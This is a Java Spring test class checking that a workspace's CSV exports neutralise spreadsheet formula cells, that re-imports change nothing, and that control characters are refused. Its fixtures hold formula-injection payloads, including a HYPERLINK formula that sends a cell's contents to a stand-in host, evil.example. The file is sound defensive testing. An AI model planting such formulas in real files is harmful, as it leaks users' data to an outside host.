package org.entente.shared;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import com.jayway.jsonpath.JsonPath;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.entente.identity.AccessTokens;
import org.entente.identity.AccessTokens.Scope;
import org.entente.identity.Accounts;
import org.entente.identity.Accounts.MembershipInput;
import org.entente.identity.Role;
import org.entente.testing.EntenteTest;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;

/**
 * The workspace CSV files (a group's projects and milestones, an indicator's values) through the
 * product's one CSV writer and reader (issue 16, findings 3 and 4): no cell of an export starts a
 * formula, an export re-imported unchanged changes nothing, a cell the export quoted reads back as
 * the text, a header that cannot be read is a 400 naming the file, and a cell with a control
 * character is refused naming its line and column.
 */
@EntenteTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CsvExportsAndImportsTest {

  static final String GROUP = "/api/charters/az-us-2026/working-groups/wg-connectivity-digital";
  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

  @Autowired MockMvc mvc;
  @Autowired Accounts accounts;
  @Autowired AccessTokens tokens;
  @Autowired JdbcClient jdbc;

  String token;
  String indicator;

  @BeforeAll
  void member() throws Exception {
    accounts.create(
        new Accounts.NewAccount(
            "us.member",
            "US member",
            "US",
            null,
            EnumSet.of(Role.MEMBER),
            false,
            "correct horse battery",
            List.of(new MembershipInput("az-us-2026", "wg-connectivity-digital", false))));
    token = tokens.create("us.member", "t", Scope.WRITE, 30).secret();
    MockHttpServletResponse created =
        mvc.perform(
                post("/api/charters/az-us-2026/indicators")
                    .header("Authorization", "Bearer " + token)
                    .contentType(MediaType.APPLICATION_JSON)
                    .content(
                        "{\"key\":\"csv-formulas\",\"name\":{\"en\":\"Formulas\"},\"unit\":\"km\","
                            + "\"direction\":\"higher\",\"commitments\":[\"middle-corridor\"],"
                            + "\"workingGroup\":\"wg-connectivity-digital\","
                            + "\"classification\":\"bilateral\"}"))
            .andReturn()
            .getResponse();
    assertThat(created.getStatus()).as(created.getContentAsString()).isEqualTo(201);
    indicator = JsonPath.read(created.getContentAsString(), "$.id");
  }

  private MockHttpServletResponse upload(String url, String csv) throws Exception {
    return mvc.perform(
            post(url)
                .header("Authorization", "Bearer " + token)
                .contentType("text/csv")
                .content(csv))
        .andReturn()
        .getResponse();
  }

  private String download(String url) throws Exception {
    MockHttpServletResponse response =
        mvc.perform(get(url).header("Authorization", "Bearer " + token)).andReturn().getResponse();
    assertThat(response.getStatus()).as(url).isEqualTo(200);
    return response.getContentAsString();
  }

  /** The imports and exports: import URL, export URL. */
  private List<String[]> files() {
    return List.of(
        new String[] {GROUP + "/projects/import", GROUP + "/projects.csv"},
        new String[] {GROUP + "/roadmap/import", GROUP + "/roadmap/milestones.csv"},
        new String[] {
          "/api/indicators/" + indicator + "/values/import",
          "/api/indicators/" + indicator + "/values.csv"
        });
  }

  private String tables() {
    StringBuilder all = new StringBuilder();
    for (String sql :
        List.of(
            "select code, title, leads, stage, stage_reason, place, latitude, longitude, version"
                + " from project order by code",
            "select code, title, owner_organization, status, version from milestone order by code",
            "select kind, period_year, amount, publisher, note, source_url from indicator_value"
                + " where indicator_id = (select id from indicator where code = 'csv-formulas')"
                + " order by 1, 2",
            "select count(*) from audit_event")) {
      jdbc.sql(sql)
          .query(
              (org.springframework.jdbc.core.RowCallbackHandler)
                  rs -> {
                    for (int i = 1; i <= rs.getMetaData().getColumnCount(); i++) {
                      all.append(rs.getString(i)).append('|');
                    }
                    all.append('\n');
                  });
    }
    return all.toString();
  }

  private static List<List<String>> rows(String csv) throws Exception {
    List<List<String>> rows = new ArrayList<>();
    try (CSVParser parser =
        CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv))) {
      for (CSVRecord r : parser) {
        rows.add(r.toList());
      }
    }
    return rows;
  }

  /** The row whose first cell is this key. */
  private static List<String> row(List<List<String>> rows, String key) {
    return rows.stream().filter(r -> r.get(0).equals(key)).findFirst().orElseThrow();
  }

  private void importFormulas() throws Exception {
    MockHttpServletResponse projects =
        upload(
            GROUP + "/projects/import",
            "key,title_en,title_az,commitments,stage,stage_reason,leads,amount,currency,"
                + "financing_status,financing_source,place,latitude,longitude\n"
                + "formula-port,=1+2,@cmd,middle-corridor,identified,\"-2+3\",US=Department of"
                + " State,5,USD,pledged,+source,\""
                + HYPERLINK.replace("\"", "\"\"")
                + "\",-12.5,-77.03\n"
                + "quoted-port,'=1+2,'hello,middle-corridor,,,,,,,,,,\n");
    assertThat(projects.getStatus()).as(projects.getContentAsString()).isEqualTo(200);
    MockHttpServletResponse milestones =
        upload(
            GROUP + "/roadmap/import",
            "key,title_en,title_az,owner,planned_start,planned_end,actual_start,actual_end,"
                + "status,project,depends_on\n"
                + "formula-step,=1+2,\uFF1D1+2,@cmd,2026-12-01,2027-03-31,,,,formula-port,\n");
    assertThat(milestones.getStatus()).as(milestones.getContentAsString()).isEqualTo(200);
    MockHttpServletResponse values =
        upload(
            "/api/indicators/" + indicator + "/values/import",
            "kind,year,date,value,unit,source_url,publisher,note,official,used\n"
                + "baseline,2025,,-5,km,,@cmd,\""
                + HYPERLINK.replace("\"", "\"\"")
                + "\",true,\n");
    assertThat(values.getStatus()).as(values.getContentAsString()).isEqualTo(200);
  }

  @Test
  void noCellOfAWorkspaceExportStartsAFormulaAndReimportingAnExportChangesNothing()
      throws Exception {
    importFormulas();
    // stored as typed: the quote typed in front of a formula is the spreadsheet's, not the text's
    assertThat(tables())
        .contains("\"en\":\"=1+2\"")
        .contains("\"az\":\"@cmd\"")
        .contains("\"en\":\"=1+2\"")
        .contains("\"az\":\"'hello\"")
        .contains(HYPERLINK)
        .contains("|-2+3|");

    String projects = download(GROUP + "/projects.csv");
    List<List<String>> projectRows = rows(projects);
    assertThat(row(projectRows, "formula-port"))
        .containsSubsequence("formula-port", "'=1+2", "'@cmd")
        .contains("'-2+3", "5.00", "'+source", "'" + HYPERLINK, "-12.5", "-77.03");
    assertThat(row(projectRows, "quoted-port"))
        .containsSubsequence("quoted-port", "'=1+2", "'hello");
    String milestones = download(GROUP + "/roadmap/milestones.csv");
    assertThat(row(rows(milestones), "formula-step"))
        .containsSubsequence("formula-step", "'=1+2", "'\uFF1D1+2");
    assertThat(row(rows(milestones), "formula-step")).contains("'@cmd");
    String values = download("/api/indicators/" + indicator + "/values.csv");
    assertThat(row(rows(values), "baseline")).contains("-5", "'@cmd", "'" + HYPERLINK);

    String before = tables();
    for (String[] file : files()) {
      String export = download(file[1]);
      MockHttpServletResponse again = upload(file[0], export);
      assertThat(again.getStatus()).as(file[0] + ": " + again.getContentAsString()).isEqualTo(200);
      assertThat((Integer) JsonPath.read(again.getContentAsString(), "$.created")).isZero();
      if (!file[0].contains("indicators")) {
        assertThat((Integer) JsonPath.read(again.getContentAsString(), "$.updated")).isZero();
      }
    }
    assertThat(tables()).isEqualTo(before);
  }

  @Test
  void aHeaderThatCannotBeReadIsA400NamingTheFileAndChangesNothing() throws Exception {
    String before = tables();
    for (String[] file : files()) {
      for (String header : List.of("\u0000\u0001\u0002\nx,y,z\n", "a,a,a\n1,2,3\n", "key,,x\n")) {
        MockHttpServletResponse response = upload(file[0], header);
        assertThat(response.getStatus())
            .as(file[0] + " " + header + ": " + response.getContentAsString())
            .isEqualTo(400);
        assertThat(response.getContentType()).startsWith("application/problem+json");
        assertThat((List<String>) JsonPath.read(response.getContentAsString(), "$.errors[*].field"))
            .containsExactly("file");
      }
    }
    assertThat(tables()).isEqualTo(before);
  }

  @Test
  void aCellIsNormalisedAndAControlCharacterIsRefusedNamingItsLineAndColumn() throws Exception {
    String header =
        "key,title_en,title_az,commitments,stage,stage_reason,leads,amount,currency,"
            + "financing_status,financing_source,place,latitude,longitude\n";
    String before = tables();
    MockHttpServletResponse refused =
        upload(
            GROUP + "/projects/import",
            header
                + "fine-port,Fine,,middle-corridor,,,,,,,,,,\n"
                + "bad-port,Bad\u0001title,,middle-corridor,,,,,,,,,,\n"
                + "del-port,Del,x\u007F,middle-corridor,,,,,,,,,,\n");
    assertThat(refused.getStatus()).as(refused.getContentAsString()).isEqualTo(400);
    String body = refused.getContentAsString();
    assertThat((List<Integer>) JsonPath.read(body, "$.errors[*].line")).containsExactly(3, 4);
    assertThat((List<String>) JsonPath.read(body, "$.errors[*].field"))
        .containsExactly("title_en", "title_az");
    assertThat(body).contains("U+0001").contains("U+007F");
    assertThat(tables()).isEqualTo(before);

    MockHttpServletResponse milestone =
        upload(
            GROUP + "/roadmap/import",
            "key,title_en,title_az,owner,planned_start,planned_end\n"
                + "bad-step,\"two\r\nlines\",,\"Mini\u0007stry\",2026-12-01,2027-03-31\n");
    assertThat(milestone.getStatus()).isEqualTo(400);
    assertThat((List<String>) JsonPath.read(milestone.getContentAsString(), "$.errors[*].field"))
        .containsExactly("owner");
    MockHttpServletResponse values =
        upload(
            "/api/indicators/" + indicator + "/values/import",
            "kind,year,value,unit,publisher,note\nactual,2026,7,km,Office,\"a\u001Bb\"\n");
    assertThat(values.getStatus()).isEqualTo(400);
    assertThat((List<String>) JsonPath.read(values.getContentAsString(), "$.errors[*].field"))
        .containsExactly("note");
    assertThat(tables()).isEqualTo(before);

    MockHttpServletResponse normalised =
        upload(
            GROUP + "/roadmap/import",
            "key,title_en,title_az,owner,planned_start,planned_end\n"
                + "nfc-step,\"two\r\nlines\",E\u0301lət,,2026-12-01,2027-03-31\n");
    assertThat(normalised.getStatus()).as(normalised.getContentAsString()).isEqualTo(200);
    String title =
        jdbc.sql("select title from milestone where code = 'nfc-step'")
            .query(String.class)
            .single();
    assertThat(JsonPath.<Map<String, String>>read(title, "$"))
        .containsEntry("en", "two\nlines")
        .containsEntry("az", "\u00C9lət");
  }
}
